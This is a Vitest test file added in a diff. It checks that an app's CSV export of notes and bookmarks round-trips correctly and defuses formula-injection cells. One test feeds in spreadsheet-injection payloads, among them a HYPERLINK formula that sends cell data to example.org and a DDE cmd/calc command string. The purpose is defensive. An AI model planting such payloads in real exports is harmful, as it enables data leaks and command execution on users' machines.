@@ -1,0 +1,97 @@
+/**
+ * CSV export, read back with a real CSV parser (csv-parse): the documented
+ * columns, values equal to the records (commas, quotes and newlines in notes
+ * included), and no cell a spreadsheet would run as a formula.
+ */
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { CSV_COLUMNS, TAG_SEPARATOR, defuse, exportCsv } from './csv';
+import { OPTIONS, annotation, annotationEntry, bookmark, bookmarkEntry, realisticEntries } from './test-entries';
+
+type Row = Record<string, string>;
+const read = (csv: string): Row[] => parse<Row>(csv, { bom: true, columns: true, skip_empty_lines: false });
+
+describe('CSV export', () => {
+  const entries = realisticEntries();
+  const csv = exportCsv(entries, OPTIONS);
+  const rows = read(csv);
+
+  it('has the documented columns, one row per note or bookmark, CRLF records and a UTF-8 BOM', () => {
+    const header: string[][] = parse(csv, { bom: true, to_line: 1 });
+    expect(header[0]).toEqual([...CSV_COLUMNS]);
+    expect(rows).toHaveLength(entries.length);
+    expect(csv.startsWith('\uFEFFtype,id,')).toBe(true);
+    expect(csv.endsWith('\r\n')).toBe(true);
+  });
+
+  it('gives back every value of the records, notes with commas, quotes and newlines included', () => {
+    entries.forEach((e, i) => {
+      const row = rows[i];
+      const a = e.annotation;
+      const b = e.bookmark;
+      expect(row.type).toBe(e.type);
+      expect(row.id).toBe(a?.id ?? b?.id);
+      expect(row.block_id).toBe(a?.blockId ?? b?.targetId);
+      expect(row.label).toBe(e.target?.label ?? '');
+      expect(row.cluster).toBe(e.clusterTitle ?? '');
+      expect(row.focus_area).toBe(e.focusAreaTitle ?? '');
+      expect(row.quote).toBe(a?.selector?.exact ?? e.block?.text ?? e.target?.excerpt ?? '');
+      expect(row.position).toBe(a?.position ?? '');
+      expect(row.priority).toBe(a?.priority ?? '');
+      expect(row.color).toBe(a?.color ?? '');
+      expect(row.tags === '' ? [] : row.tags.split(TAG_SEPARATOR)).toEqual(a?.tags ?? []);
+      expect(row.created).toBe(a?.created ?? b?.created);
+      expect(row.modified).toBe(a?.modified ?? b?.modified);
+      expect(row.anchor).toBe(a ? (e.target ? a.anchor : 'orphan') : e.target ? 'attached' : 'orphan');
+      expect(row.link).toBe(`recollection://block/${row.block_id}`);
+      if (a) expect(row.note).toBe(a.note);
+      else expect(row.note).toBe(b!.label); // these labels all say more than the citation
+    });
+    const multiline = rows.find((r) => r.note.includes('ILO C189'))!;
+    expect(multiline.note).toContain('"support, but add ILO C189".\nSecond line, with a comma.');
+  });
+
+  it('neutralises cells that start like a formula, and only those', () => {
+    const attack = [
+      annotationEntry(
+        annotation('c2.f2.po.1', {
+          note: '=HYPERLINK("http://example.org?leak="&A1,"click")',
+          tags: ['+cmd', '@SUM(1)'],
+        }),
+      ),
+      annotationEntry(annotation('c2.f2.po.2', { note: "-2+3+cmd|' /C calc'!A0" })),
+      annotationEntry(annotation('c2.f2.po.3', { note: '\t=1+1' })),
+      bookmarkEntry(bookmark('c2.f2.pa.1', '@risk: ask capital')),
+    ];
+    const out = read(exportCsv(attack, OPTIONS));
+    expect(out.map((r) => r.note)).toEqual([
+      `'=HYPERLINK("http://example.org?leak="&A1,"click")`,
+      `'-2+3+cmd|' /C calc'!A0`,
+      `'\t=1+1`,
+      `'@risk: ask capital`,
+    ]);
+    expect(out[0].tags).toBe(`'+cmd${TAG_SEPARATOR}@SUM(1)`);
+    // No cell of any row starts with a formula trigger.
+    for (const row of [...out, ...rows])
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(defuse('Support, with amendments')).toBe('Support, with amendments');
+    expect(defuse('')).toBe('');
+  });
+
+  it('leaves the note, tag and bookmark-label cells empty without private notes', () => {
+    const shared = read(exportCsv(entries, { ...OPTIONS, includeNotes: false }));
+    expect(shared).toHaveLength(entries.length);
+    for (const row of shared) {
+      expect(row.note).toBe('');
+      expect(row.tags).toBe('');
+    }
+    expect(shared.map((r) => r.position)).toEqual(rows.map((r) => r.position));
+    expect(shared.map((r) => r.quote)).toEqual(rows.map((r) => r.quote));
+  });
+
+  it('writes only the header for nothing', () => {
+    const empty = exportCsv([], OPTIONS);
+    expect(read(empty)).toEqual([]);
+    expect(empty).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
+  });
+});
